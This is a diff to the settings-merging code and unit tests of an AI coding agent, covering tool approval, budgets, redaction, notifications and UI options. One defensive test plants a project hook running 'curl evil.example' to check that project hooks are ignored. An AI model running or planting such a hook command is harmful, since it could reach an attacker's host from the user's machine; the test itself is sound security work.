+            strip_comments: other.strip_comments.or(base.strip_comments),
+            strip_whitespace: other.strip_whitespace.or(base.strip_whitespace),
+            collapse_repeats: other.collapse_repeats.or(base.collapse_repeats),
+            languages: merge_maps(base.languages, other.languages),
+        }),
+        (None, Some(other)) => Some(other),
+        (Some(base), None) => Some(base),
+        (None, None) => None,
+    }
+}
+
 fn merge_images(
     base: Option<ImageSettings>,
     other: Option<ImageSettings>,
@@ -540,6 +1342,131 @@ fn merge_terminal(
     }
 }
 
+fn merge_status_line(
+    base: Option<StatusLineSettings>,
+    other: Option<StatusLineSettings>,
+) -> Option<StatusLineSettings> {
+    match (base, other) {
+        (Some(base), Some(other)) => Some(StatusLineSettings {
+            enabled: other.enabled.or(base.enabled),
+            show_cwd: other.show_cwd.or(base.show_cwd),
+            show_git: other.show_git.or(base.show_git),
+        }),
+        (None, Some(other)) => Some(other),
+        (Some(base), None) => Some(base),
+        (None, None) => None,
+    }
+}
+
+fn merge_ui(base: Option<UiSettings>, other: Option<UiSettings>) -> Option<UiSettings> {
+    match (base, other) {
+        (Some(base), Some(other)) => Some(UiSettings {
+            thinking: other.thinking.or(base.thinking),
+            thinking_panel: other.thinking_panel.or(base.thinking_panel),
+            screen_reader: other.screen_reader.or(base.screen_reader),
+        }),
+        (None, Some(other)) => Some(other),
+        (Some(base), None) => Some(base),
+        (None, None) => None,
+    }
+}
+
+fn merge_tool_approval(
+    base: Option<ToolApprovalSettings>,
+    other: Option<ToolApprovalSettings>,
+) -> Option<ToolApprovalSettings> {
+    match (base, other) {
+        (Some(base), Some(other)) => Some(ToolApprovalSettings {
+            enabled: other.enabled.or(base.enabled),
+            always_allow: other.always_allow.or(base.always_allow),
+            rules: other.rules.or(base.rules),
+        }),
+        (None, Some(other)) => Some(other),
+        (Some(base), None) => Some(base),
+        (None, None) => None,
+    }
+}
+
+fn merge_budget(
+    base: Option<BudgetSettings>,
+    other: Option<BudgetSettings>,
+) -> Option<BudgetSettings> {
+    match (base, other) {
+        (Some(base), Some(other)) => Some(BudgetSettings {
+            downgrade_after_usd: other.downgrade_after_usd.or(base.downgrade_after_usd),
+            downgrade_model: other.downgrade_model.or(base.downgrade_model),
+        }),
+        (None, Some(other)) => Some(other),
+        (Some(base), None) => Some(base),
+        (None, None) => None,
+    }
+}
+
+fn merge_remote_sessions(
+    base: Option<RemoteSessionSettings>,
+    other: Option<RemoteSessionSettings>,
+) -> Option<RemoteSessionSettings> {
+    match (base, other) {
+        (Some(base), Some(other)) => Some(RemoteSessionSettings {
+            url: other.url.or(base.url),
+            username: other.username.or(base.username),
+            password_env: other.password_env.or(base.password_env),
+            allow_http: other.allow_http.or(base.allow_http),
+        }),
+        (None, Some(other)) => Some(other),
+        (Some(base), None) => Some(base),
+        (None, None) => None,
+    }
+}
+
+fn merge_redaction(
+    base: Option<RedactionSettings>,
+    other: Option<RedactionSettings>,
+) -> Option<RedactionSettings> {
+    match (base, other) {
+        (Some(base), Some(other)) => Some(RedactionSettings {
+            enabled: other.enabled.or(base.enabled),
+            detectors: other.detectors.or(base.detectors),
+            patterns: other.patterns.or(base.patterns),
+        }),
+        (None, Some(other)) => Some(other),
+        (Some(base), None) => Some(base),
+        (None, None) => None,
+    }
+}
+
+fn merge_auto_title(
+    base: Option<AutoTitleSettings>,
+    other: Option<AutoTitleSettings>,
+) -> Option<AutoTitleSettings> {
+    match (base, other) {
+        (Some(base), Some(other)) => Some(AutoTitleSettings {
+            enabled: other.enabled.or(base.enabled),
+            model: other.model.or(base.model),
+        }),
+        (None, Some(other)) => Some(other),
+        (Some(base), None) => Some(base),
+        (None, None) => None,
+    }
+}
+
+fn merge_notifications(
+    base: Option<NotificationSettings>,
+    other: Option<NotificationSettings>,
+) -> Option<NotificationSettings> {
+    match (base, other) {
+        (Some(base), Some(other)) => Some(NotificationSettings {
+            sinks: other.sinks.or(base.sinks),
+            events: other.events.or(base.events),
+            budget_thresholds_usd: other.budget_thresholds_usd.or(base.budget_thresholds_usd),
+            unattended_after_secs: other.unattended_after_secs.or(base.unattended_after_secs),
+        }),
+        (None, Some(other)) => Some(other),
+        (Some(base), None) => Some(base),
+        (None, None) => None,
+    }
+}
+
 fn merge_thinking_budgets(
     base: Option<ThinkingBudgets>,
     other: Option<ThinkingBudgets>,
@@ -646,7 +1573,9 @@ fn patch_settings_file(path: &Path, patch: Value) -> Result<Value> {
 mod tests {
     use super::Config;
     use super::SettingsScope;
+    use super::ThinkingDisplay;
     use crate::agent::QueueMode;
+    use crate::permissions::PermissionAction;
     use serde_json::json;
     use tempfile::TempDir;
 
@@ -715,6 +1644,53 @@ mod tests {
         assert_eq!(config.theme.as_deref(), Some("global"));
     }
 
+    #[test]
+    fn load_ignores_project_hooks() {
+        let temp = TempDir::new().expect("create tempdir");
+        let cwd = temp.path().join("cwd");
+        let global_dir = temp.path().join("global");
+        write_file(
+            &cwd.join(".pi/settings.json"),
+            r#"{ "hooks": [{ "event": "pre_request", "command": "curl evil.example" }] }"#,
+        );
+        let config = Config::load_with_roots(None, &global_dir, &cwd).expect("load config");
+        assert!(config.hooks.is_none());
+
+        write_file(
+            &global_dir.join("settings.json"),
+            r#"{ "hooks": [{ "event": "post_turn", "command": "make lint" }] }"#,
+        );
+        let config = Config::load_with_roots(None, &global_dir, &cwd).expect("load config");
+        let hooks = config.hooks.expect("global hooks");
+        assert_eq!(hooks.len(), 1);
+        assert_eq!(hooks[0].command, "make lint");
+    }
+
+    #[test]
+    fn load_records_which_file_set_each_keybinding() {
+        let temp = TempDir::new().expect("create tempdir");
+        let cwd = temp.path().join("cwd");
+        let global_dir = temp.path().join("global");
+        write_file(
+            &global_dir.join("settings.json"),
+            r#"{ "keybindings": { "exit": "ctrl+q", "clear": "ctrl+l" } }"#,
+        );
+        write_file(
+            &cwd.join(".pi/settings.json"),
+            r#"{ "keybindings": { "clear": "ctrl+k" } }"#,
+        );
+
+        let config = Config::load_with_roots(None, &global_dir, &cwd).expect("load config");
+        assert_eq!(
+            config.keybinding_sources.get("exit"),
+            Some(&global_dir.join("settings.json"))
+        );
+        assert_eq!(
+            config.keybinding_sources.get("clear"),
+            Some(&cwd.join(".pi/settings.json"))
+        );
+    }
+
     #[test]
     fn load_merges_nested_structs_instead_of_overriding() {
         let temp = TempDir::new().expect("create tempdir");
@@ -881,4 +1857,242 @@ mod tests {
         assert_eq!(config.steering_queue_mode(), QueueMode::OneAtATime);
         assert_eq!(config.follow_up_queue_mode(), QueueMode::OneAtATime);
     }
+
+    #[test]
+    fn thinking_display_prefers_ui_setting_over_legacy_flag() {
+        let temp = TempDir::new().expect("create tempdir");
+        let cwd = temp.path().join("cwd");
+        let global_dir = temp.path().join("global");
+        write_file(
+            &global_dir.join("settings.json"),
+            r#"{ "hideThinkingBlock": true }"#,
+        );
+        let config = Config::load_with_roots(None, &global_dir, &cwd).expect("load config");
+        assert_eq!(config.thinking_display(), ThinkingDisplay::Off);
+
+        write_file(
+            &cwd.join(".pi/settings.json"),
+            r#"{ "ui": { "thinking": "full" } }"#,
+        );
+        let config = Config::load_with_roots(None, &global_dir, &cwd).expect("load config");
+        assert_eq!(config.thinking_display(), ThinkingDisplay::Full);
+        assert_eq!(
+            Config::default().thinking_display(),
+            ThinkingDisplay::Summary
+        );
+    }
+
+    #[test]
+    fn tool_approval_rules_come_from_project_settings() {
+        let temp = TempDir::new().expect("create tempdir");
+        let cwd = temp.path().join("cwd");
+        let global_dir = temp.path().join("global");
+        assert!(Config::default().tool_approval_enabled());
+
+        write_file(
+            &global_dir.join("settings.json"),
+            r#"{ "toolApproval": { "enabled": false, "alwaysAllow": ["bash"] } }"#,
+        );
+        write_file(
+            &cwd.join(".pi/settings.json"),
+            r#"{ "tool_approval": { "always_allow": ["edit:src/lib.rs"] } }"#,
+        );
+        let config = Config::load_with_roots(None, &global_dir, &cwd).expect("load config");
+        assert!(!config.tool_approval_enabled());
+        assert_eq!(
+            config.tool_approval_always_allow(),
+            vec!["edit:src/lib.rs".to_string()]
+        );
+    }
+
+    #[test]
+    fn permission_rules_load_from_tool_approval_settings() {
+        let temp = TempDir::new().expect("create tempdir");
+        let cwd = temp.path().join("cwd");
+        let global_dir = temp.path().join("global");
+        write_file(
+            &cwd.join(".pi/settings.json"),
+            r#"{ "toolApproval": { "rules": [
+                { "tool": "bash", "command": "cargo *", "action": "allow" },
+                { "tool": "write", "pathPrefix": "vendor/", "action": "deny" }
+            ] } }"#,
+        );
+        let config = Config::load_with_roots(None, &global_dir, &cwd).expect("load config");
+        let policy = config.permission_policy();
+        assert_eq!(policy.rules().len(), 2);
+        assert_eq!(
+            policy
+                .decide("write", &json!({ "path": "vendor/lib.rs" }))
+                .action,
+            PermissionAction::Deny
+        );
+        assert!(Config::default().permission_policy().rules().is_empty());
+    }
+
+    #[test]
+    fn screen_reader_mode_reads_ui_setting() {
+        let temp = TempDir::new().expect("create tempdir");
+        let cwd = temp.path().join("cwd");
+        let global_dir = temp.path().join("global");
+        write_file(
+            &global_dir.join("settings.json"),
+            r#"{ "ui": { "screenReader": true } }"#,
+        );
+        let config = Config::load_with_roots(None, &global_dir, &cwd).expect("load config");
+        assert!(config.screen_reader());
+        if std::env::var_os("PI_SCREEN_READER").is_none() {
+            assert!(!Config::default().screen_reader());
+        }
+    }
+
+    #[test]
+    fn notification_settings_merge_sinks_and_thresholds() {
+        let temp = TempDir::new().expect("create tempdir");
+        let cwd = temp.path().join("cwd");
+        let global_dir = temp.path().join("global");
+        assert!(
+            !Config::default()
+                .notifier()
+                .wants(NotificationKind::RunComplete)
+        );
+
+        write_file(
+            &global_dir.join("settings.json"),
+            r#"{ "notifications": { "sinks": [{ "type": "webhook", "url": "https://example.com/hook" }] } }"#,
+        );
+        write_file(
+            &cwd.join(".pi/settings.json"),
+            r#"{ "notifications": { "events": ["budget"], "budgetThresholdsUsd": [5, 1, -2] } }"#,
+        );
+        let config = Config::load_with_roots(None, &global_dir, &cwd).expect("load config");
+        let notifier = config.notifier();
+        assert!(notifier.wants(NotificationKind::Budget));
+        assert!(!notifier.wants(NotificationKind::RunComplete));
+        assert_eq!(config.notification_budget_thresholds(), vec![1.0, 5.0]);
+        assert_eq!(
+            config.notification_unattended_after(),
+            std::time::Duration::from_secs(60)
+        );
+    }
+
+    #[test]
+    fn auto_title_is_off_unless_enabled() {
+        let temp = TempDir::new().expect("create tempdir");
+        let cwd = temp.path().join("cwd");
+        let global_dir = temp.path().join("global");
+        assert_eq!(Config::default().auto_title_model(), None);
+
+        write_file(
+            &global_dir.join("settings.json"),
+            r#"{ "autoTitle": { "model": "anthropic/claude-haiku" } }"#,
+        );
+        let config = Config::load_with_roots(None, &global_dir, &cwd).expect("load config");
+        assert_eq!(config.auto_title_model(), None);
+
+        write_file(
+            &cwd.join(".pi/settings.json"),
+            r#"{ "auto_title": { "enabled": true } }"#,
+        );
+        let config = Config::load_with_roots(None, &global_dir, &cwd).expect("load config");
+        assert_eq!(
+            config.auto_title_model(),
+            Some(Some("anthropic/claude-haiku".to_string()))
+        );
+    }
+
+    #[test]
+    fn redaction_settings_merge_per_field() {
+        let temp = TempDir::new().expect("create tempdir");
+        let cwd = temp.path().join("cwd");
+        let global_dir = temp.path().join("global");
+
+        write_file(
+            &global_dir.join("settings.json"),
+            r#"{ "redaction": { "enabled": true, "patterns": ["ACME-\\d+"] } }"#,
+        );
+        write_file(
+            &cwd.join(".pi/settings.json"),
+            r#"{ "redaction": { "detectors": ["api_keys"] } }"#,
+        );
+        let config = Config::load_with_roots(None, &global_dir, &cwd).expect("load config");
+        let redaction = config.redaction.expect("redaction settings");
+        assert_eq!(redaction.enabled, Some(true));
+        assert_eq!(redaction.detectors, Some(vec!["api_keys".to_string()]));
+        assert_eq!(redaction.patterns, Some(vec!["ACME-\\d+".to_string()]));
+    }
+
+    #[test]
+    fn budget_downgrade_needs_limit_and_model() {
+        let temp = TempDir::new().expect("create tempdir");
+        let cwd = temp.path().join("cwd");
+        let global_dir = temp.path().join("global");
+        assert_eq!(Config::default().budget_downgrade(), None);
+
+        write_file(
+            &global_dir.join("settings.json"),
+            r#"{ "budget": { "downgradeModel": "anthropic/claude-haiku" } }"#,
+        );
+        let config = Config::load_with_roots(None, &global_dir, &cwd).expect("load config");
+        assert_eq!(config.budget_downgrade(), None);
+
+        write_file(
+            &cwd.join(".pi/settings.json"),
+            r#"{ "budget": { "downgrade_after_usd": 2.5 } }"#,
+        );
+        let config = Config::load_with_roots(None, &global_dir, &cwd).expect("load config");
+        assert_eq!(
+            config.budget_downgrade(),
+            Some((2.5, "anthropic/claude-haiku".to_string()))
+        );
+    }
+
+    #[test]
+    fn explain_reports_project_overrides_of_global_defaults() {
+        let temp = TempDir::new().expect("create tempdir");
+        let cwd = temp.path().join("cwd");
+        let global_dir = temp.path().join("global");
+        write_file(
+            &global_dir.join("settings.json"),
+            r#"{ "default_provider": "anthropic", "default_model": "claude-a", "default_thinking_level": "low" }"#,
+        );
+        write_file(
+            &cwd.join(".pi/settings.json"),
+            r#"{ "default_model": "claude-b", "toolProfile": "readonly" }"#,
+        );
+
+        let explained =
+            Config::explain_with_roots(None, &global_dir, &cwd).expect("explain settings");
+        let find = |key: &str| {
+            explained
+                .iter()
+                .find(|setting| setting.key == key)
+                .cloned()
+                .expect("explained key")
+        };
+        assert_eq!(find("default_provider").source, SettingSource::Global);
+        assert_eq!(find("default_model").value.as_deref(), Some("claude-b"));
+        assert_eq!(find("default_model").source, SettingSource::Project);
+        assert_eq!(find("default_thinking_level").source, SettingSource::Global);
+        assert_eq!(find("tool_profile").source, SettingSource::Project);
+
+        let config = Config::load_with_roots(None, &global_dir, &cwd).expect("load config");
+        assert_eq!(
+            config.tool_profile_tools(),
+            Some(vec![
+                "read".to_string(),
+                "grep".to_string(),
+                "find".to_string(),
+                "ls".to_string()
+            ])
+        );
+        let custom = Config {
+            tool_profile: Some("read, bash".to_string()),
+            ..Config::default()
+        };
+        assert_eq!(
+            custom.tool_profile_tools(),
+            Some(vec!["read".to_string(), "bash".to_string()])
+        );
+        assert_eq!(Config::default().tool_profile_tools(), None);
+    }
 }